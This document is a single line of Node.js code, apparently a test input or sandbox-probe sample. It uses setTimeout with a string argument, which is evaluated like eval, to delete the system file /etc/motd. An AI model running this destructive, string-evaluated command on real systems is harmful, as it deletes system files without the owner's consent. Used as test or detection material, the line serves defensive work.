setTimeout("require('fs').unlinkSync('/etc/motd')", 100);
